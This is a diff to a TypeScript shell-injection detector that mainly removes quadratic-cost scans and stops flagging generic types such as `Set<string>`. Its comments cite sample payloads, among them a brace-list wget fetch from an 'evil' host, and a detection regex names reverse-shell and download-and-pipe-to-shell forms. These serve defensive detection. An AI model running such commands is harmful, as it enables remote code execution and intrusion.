@@ -8,7 +8,12 @@
  * Jerry`) needs more than that. One pass over the value, bounded by MAX_SEPARATORS.
  */
 
-const MAX_SEPARATORS = 32
+/**
+ * (forty-seventh round) How many separators a reading looks at: every one a value within the default `insight.maxInspectBytes` (16 KiB)
+ * can hold. It was 32, and a command padded past 32 separators (`a;a;…;id`) was not read; every look a separator takes is bounded
+ * by a reach of its own or read once per value, so a reading costs the value's length, not its square.
+ */
+const MAX_SEPARATORS = 16_384
 
 /**
  * Programs on any Unix or Windows host that an injection runs to read, probe or call out.
@@ -95,6 +100,10 @@ function commandEnds(v: string, i: number): boolean {
  * Judges the command that starts at `i` (after a separator). `weak` is a `&` or `|` between words of
  * what may be prose: then even a listed command needs an argument after it.
  */
+const TYPE_ARGUMENT = String.raw`(?:string|number|boolean|bigint|symbol|object|unknown|any|void|never|[a-z])(?:\[\])?`
+const GENERIC_TYPE = new RegExp(String.raw`^<${TYPE_ARGUMENT}(?:[ \t]{0,2},[ \t]{0,2}${TYPE_ARGUMENT}){0,3}>(?![\w.-])`)
+/** how far either side of a quoted program's name `commandAt` reads it unquoted */
+const QUOTED_REACH = 1024
 function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boolean {
   const entry = i
   // (twenty-first round: and a subshell's parenthesis, `; (id)`, `&& (id)`)
@@ -110,7 +119,11 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
   if ((quote === 34 || quote === 39) && strongBefore(v, entry)) {
     const close = v.indexOf(quote === 34 ? '"' : "'", i + 1)
     const inner = close > i + 1 && close - i <= 25 ? v.slice(i + 1, close) : ''
-    return inner !== '' && COMMANDS.has(inner) && quotedCommand(v, entry, close + 1) && commandAt(v.slice(0, i) + inner + v.slice(close + 1), i, weak, listedOnly)
+    if (inner === '' || !COMMANDS.has(inner) || !quotedCommand(v, entry, close + 1)) return false
+    // (forty-seventh round) judged unquoted within 1,024 characters either side: the whole value copied at each such name cost the square
+    // of its length, now that a value's separators are read to its end
+    const from = Math.max(0, i - QUOTED_REACH)
+    return commandAt(v.slice(from, i) + inner + v.slice(close + 1, close + 1 + QUOTED_REACH), i - from, weak, listedOnly)
   }
   // a variable run as the command: ;$CMD  &&$X
   // (a positional parameter, `$0`, is the program's own name: Ruby's and Perl's `$0` too)
@@ -135,6 +148,9 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
   while (j < v.length && isWordChar(v.charCodeAt(j))) j++
   if (j === i || j - i > 24) return false
   const word = v.slice(i, j)
+  // (forty-seventh round) a generic type of TypeScript's, Java's or C#'s named as a program and given a primitive type or a type's parameter
+  // (`string[] | Set<string>`, `Set<T>`): to a shell, input from a file of that name, nothing else
+  if (v.charCodeAt(j) === 60 && GENERIC_TYPE.test(v.slice(j, j + 80))) return false
   let k = j
   while (k < v.length && isBlank(v.charCodeAt(k))) k++
   // (forty-fifth round) assignments of the command's environment before it (`; A=1 id`, `&& LANG=C curl …`): the command after them
@@ -269,18 +285,37 @@ function strongBefore(v: string, i: number): boolean {
 /** Whether `name` was set to a listed program before `before` (`x=cat;`, `a=whoami&&`). */
 function assignedProgram(v: string, name: string, before: number): boolean {
   if (name.length === 0 || name.length > 20) return false
-  let at = v.lastIndexOf(`${name}=`, before)
-  for (let n = 0; at !== -1 && n < 4; n++, at = v.lastIndexOf(`${name}=`, at - 1)) {
-    if (at > 0 && isNameChar(v.charCodeAt(at - 1))) continue
-    let k = at + name.length + 1
+  const at = assignments(v).programs.get(name)
+  return at !== undefined && at < before
+}
+
+/**
+ * (forty-seventh round) The names a value assigns (`name=`, the name not glued to another name's character) and where each is first
+ * given a listed program's name (`x=cat`, `a='whoami'`): read once per value, not once per separator, now that a value's separators are
+ * read to its end (looking back for `x=` at each `$x` cost the square of the value's length). The last value's, kept for the next call.
+ */
+let indexed: string | undefined
+let indexedAssignments = { names: new Set<string>(), programs: new Map<string, number>() }
+function assignments(v: string): { names: Set<string>; programs: Map<string, number> } {
+  if (v === indexed) return indexedAssignments
+  const names = new Set<string>()
+  const programs = new Map<string, number>()
+  for (let eq = v.indexOf('='); eq !== -1; eq = v.indexOf('=', eq + 1)) {
+    let at = eq
+    while (at > 0 && eq - at <= 41 && isNameChar(v.charCodeAt(at - 1))) at--
+    if (at === eq || eq - at > 41) continue
+    const name = v.slice(at, eq)
+    names.add(name)
+    let k = eq + 1
     const q = v.charCodeAt(k)
     if (q === 39 || q === 34) k++
     let e = k
-    while (e < v.length && isWordChar(v.charCodeAt(e))) e++
-    if (e > k && COMMANDS.has(v.slice(k, e))) return true
-    if (at === 0) break
+    while (e < v.length && e - k <= 24 && isWordChar(v.charCodeAt(e))) e++
+    if (e > k && !programs.has(name) && COMMANDS.has(v.slice(k, e))) programs.set(name, at)
   }
-  return false
+  indexed = v
+  indexedAssignments = { names, programs }
+  return indexedAssignments
 }
 
 /** (nineteenth round) A brace list where a command starts, its first word a program: bash runs `{wget,http://evil/x.sh}`, `;{ls,}`. */
@@ -376,7 +411,7 @@ function andOperand(v: string, i: number): boolean {
   while (j < v.length && j - from <= 40 && isNameChar(v.charCodeAt(j))) j++
   if (j === from) return false
   const word = v.slice(from, j)
-  if (sigil ? v.includes(`${word}=`) : COMMANDS.has(word) && !ENGLISH.has(word)) return false
+  if (sigil ? assignments(v).names.has(word) : COMMANDS.has(word) && !ENGLISH.has(word)) return false
   while (j < v.length && isBlank(v.charCodeAt(j))) j++
   if (v.charCodeAt(j) !== 41) return false
   // an unmatched `(` before the `&`, on its line, within 200 characters
@@ -450,7 +485,8 @@ function insideCall(v: string, i: number): boolean {
   for (let k = i - 1, stop = Math.max(0, i - CALL_REACH); k >= stop; k--) {
     const c = v.charCodeAt(k)
     if (outsideCall(c)) return false
-    if (c === 41) depth++
+    // (forty-seventh round) no call nests 16 deep: past that the look back stops, and a line of thousands of `&&)` costs no 400 steps each
+    if (c === 41 && ++depth > 16) return false
     else if (c === 40 && depth > 0) depth--
     else if (c === 40) return !opensGroup(v, k) && !subshellBefore(v, k - gluedName(v, k).length)
   }
@@ -919,9 +955,11 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
   let aliasAt = -2
   // whether a `case` closes in the value (-1: not looked for)
   let cased = -1
-  // how many characters before a break count towards a short token's length, and up to where they were counted (`keptBefore`)
-  let kept = 0
-  let keptTo = 0
+  // where the text before a break begins and ends once trimmed, its written `\n`s made blanks (-1: none yet), and up to where the reading
+  // has looked for it: tracked as the reading goes, so that no break copies the whole text before it
+  let inkFrom = -1
+  let inkTo = -1
+  let inked = 0
   const n = v.length
   for (let i = 0; i < n && seen < MAX_SEPARATORS; i++) {
     const c = v.charCodeAt(i)
@@ -1023,19 +1061,26 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
       case 10:
       case 13: {
         if (c === 92 && v.charCodeAt(i + 1) !== 110) break
-        // (forty-sixth round) the text before it copied only where it may be one short token or the value opens on a break: a value's
-        // later lines, read to its end now that a table's rows count no separator, would copy it at each of 32 breaks
-        const lead = LEADING_BREAK.test(v)
-        if (!lead) {
-          kept = keptBefore(v, keptTo, i, kept)
-          keptTo = i
+        // (forty-sixth round) the text before it copied only where it may be one short token or the value opens on a break (forty-seventh
+        // round: judged from where its trimmed text begins and ends, tracked as the reading goes, whatever the value opens on: the value's
+        // lines are read to its end, and a copy at each break would cost the square of its length)
+        for (; inked < i; inked++) {
+          const d = v.charCodeAt(inked)
+          if (d === 92 && v.charCodeAt(inked + 1) === 110) inked++
+          else if (!isTrimmed(d)) {
+            if (inkFrom === -1) inkFrom = inked
+            inkTo = inked
+          }
         }
-        if (!lead && kept > 64) {
+        const lead = LEADING_BREAK.test(v)
+        // its written `\n`s made blanks, the text is at least half as long as from its first to its last character: past twice 64 (one
+        // short token) or twice 256 (commandLines' lines) it is neither
+        if (inkTo - inkFrom >= (lead ? 512 : 128)) {
           if (c === 92) i++
           seen++
           break
         }
-        const before = v.slice(0, i).replace(/\\n/g, ' ').trim()
+        const before = inkFrom === -1 ? '' : v.slice(inkFrom, inkTo + 1).replace(/\\n/g, ' ')
         if (c === 92) i++
         seen++
         // a separator when what comes before it is one short token (abc%0aid, ;%0aid, '\nid), or when
@@ -1120,19 +1165,6 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
 
 /** JavaScript's white space and line terminators, which `trim()` removes */
 const isTrimmed = (c: number) => c === 32 || (c >= 9 && c <= 13) || c === 0xa0 || c === 0x1680 || (c >= 0x2000 && c <= 0x200a) || c === 0x2028 || c === 0x2029 || c === 0x202f || c === 0x205f || c === 0x3000 || c === 0xfeff
-/**
- * How many of the characters from `from` to `i`, added to `kept` already counted before, are none `trim()` removes nor a written `\n`'s (a
- * backslash, an `n`), counted up to 65: past 64, the text before `i`, written `\n`s made blanks and trimmed, is surely longer than a
- * short token. Each break's caller counts on from the last one's (review: counting from the value's start at each break cost 40 ms on
- * 64 KiB of blanks and breaks).
- */
-function keptBefore(v: string, from: number, i: number, kept: number): number {
-  for (let k = from; k < i && kept <= 64; k++) {
-    const c = v.charCodeAt(k)
-    if (!isTrimmed(c) && c !== 92 && c !== 110) kept++
-  }
-  return kept
-}
 
 /** what may stand right before a process substitution inside a word: `=`, `:`, `,`, `{` (`--in=<(id)`, `{a,<(id)}`) */
 const WORD_JOINS = new Set([61, 58, 44, 123])
@@ -1256,11 +1288,11 @@ function scriptLineAfter(v: string, from: number, before: string): boolean {
 function commandAfterBreak(v: string, from: number, to: number): boolean {
   let at = from
   for (let n = 0; n < 8; n++) {
-    const real = v.indexOf('\n', at)
-    const literal = v.indexOf('\\n', at)
-    const brk = real !== -1 && real < to && (literal === -1 || real < literal) ? real : literal !== -1 && literal < to ? literal : -1
-    if (brk === -1) return false
-    at = brk + (brk === literal ? 2 : 1)
+    // (forty-seventh round) looked for up to `to` only: searching the whole rest of the value at every backtick cost the square of its length
+    let brk = at
+    while (brk < to && v.charCodeAt(brk) !== 10 && !(v.charCodeAt(brk) === 92 && v.charCodeAt(brk + 1) === 110)) brk++
+    if (brk >= to) return false
+    at = brk + (v.charCodeAt(brk) === 92 ? 2 : 1)
     // (a line that opens with `$`: a template's interpolation, `${out}`, no program by its name)
     let k = at
     while (k < to && isBlank(v.charCodeAt(k))) k++
@@ -1748,4 +1780,4 @@ const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:
 // (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
 export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
 /** The shell judge's patterns, for the ReDoS checks. */
-export const SHELL_PATTERNS: readonly RegExp[] = [ENV_ASSIGNMENT, ALIAS_OR_EXPANSION, CASE_CLOSED, REDIRECTED, LEADING_BREAK, LINE_BREAKS, REFERENCE, ENV_PREFIX, UNKNOWN_PROGRAM_ARGUMENTS, IFS_ASSIGN, FIND_EXEC, PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, VERSION_IN_SENTENCE, CHOICES, IN_WORD_EXPANSION, IN_WORD_EXPANSIONS, BLANK_RUN, HIDDEN_FILE, WORD_BREAKS, HOST_NAME, APPENDED, COMMENTED, ARGUMENT_BREAK, PLAIN_WORD, SHELL_SIGN, NUMBER_ARGUMENT, ECHO_TO_FILE, SPLICED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, RELATIVE_GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM, DATE_STAMP, LONE_EXPANSION, OBJECT_CMDLET, CMDLET_WORDS, ABBREVIATION_REST, CMDLET_LINE, COQ_PROOF, IFS_GLUED_PROGRAM, VARIANT_LINE, FIRST_VARIANT_LINE, TYPE_HEAD, DATA_HEAD, VARIANT_COMMENT, TEST_BRACKETS, FOR_WORDS, LOOP_END, LOOP_WORDS, NUMBER_ASSIGNED, KUSTO_STAGE, PARENTHESIZED_PROGRAM, ORDER_STAGE, ORDER_CLAUSE, STATEMENT_END, STAGE_CONTINUED, WRITTEN_RETURN, JOIN_SIDE, LINE_LEAD, ASSIGNMENT_HEAD, FUNCTION_HEAD, OPTION_OR_PATH, QUERY_PUNCTUATION, QUOTED_ITEM, QUERY_LINE]
+export const SHELL_PATTERNS: readonly RegExp[] = [GENERIC_TYPE, ENV_ASSIGNMENT, ALIAS_OR_EXPANSION, CASE_CLOSED, REDIRECTED, LEADING_BREAK, LINE_BREAKS, REFERENCE, ENV_PREFIX, UNKNOWN_PROGRAM_ARGUMENTS, IFS_ASSIGN, FIND_EXEC, PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, VERSION_IN_SENTENCE, CHOICES, IN_WORD_EXPANSION, IN_WORD_EXPANSIONS, BLANK_RUN, HIDDEN_FILE, WORD_BREAKS, HOST_NAME, APPENDED, COMMENTED, ARGUMENT_BREAK, PLAIN_WORD, SHELL_SIGN, NUMBER_ARGUMENT, ECHO_TO_FILE, SPLICED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, RELATIVE_GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM, DATE_STAMP, LONE_EXPANSION, OBJECT_CMDLET, CMDLET_WORDS, ABBREVIATION_REST, CMDLET_LINE, COQ_PROOF, IFS_GLUED_PROGRAM, VARIANT_LINE, FIRST_VARIANT_LINE, TYPE_HEAD, DATA_HEAD, VARIANT_COMMENT, TEST_BRACKETS, FOR_WORDS, LOOP_END, LOOP_WORDS, NUMBER_ASSIGNED, KUSTO_STAGE, PARENTHESIZED_PROGRAM, ORDER_STAGE, ORDER_CLAUSE, STATEMENT_END, STAGE_CONTINUED, WRITTEN_RETURN, JOIN_SIDE, LINE_LEAD, ASSIGNMENT_HEAD, FUNCTION_HEAD, OPTION_OR_PATH, QUERY_PUNCTUATION, QUOTED_ITEM, QUERY_LINE]
